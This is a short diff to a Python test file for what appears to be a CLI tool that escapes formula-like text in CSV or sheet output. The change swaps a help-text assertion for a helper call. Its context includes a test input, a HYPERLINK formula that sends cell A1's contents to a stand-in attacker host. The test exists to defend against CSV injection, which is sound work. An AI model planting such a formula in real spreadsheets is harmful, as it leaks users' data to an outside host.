@@ -15,6 +15,7 @@ from hypothesis import strategies as st
 from extend_pipeline.commands.sql.values import in_sheet
 from extend_pipeline_tests.cli.conftest import Cli
 from extend_pipeline_tests.support.home.homes import video
+from extend_pipeline_tests.support.user_texts import check_user_text
 
 PROMPTS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
@@ -94,5 +95,4 @@ def test_a_number_is_never_marked(number: Decimal | int) -> None:
 
 
 def test_the_rule_is_told_where_csv_is_asked_for(tmp_path: Path) -> None:
-    told = " ".join(Cli(tmp_path)("sql", "--help").stdout.split())
-    assert "text that begins like a formula gets an apostrophe" in told
+    check_user_text(" ".join(Cli(tmp_path)("sql", "--help").stdout.split()))
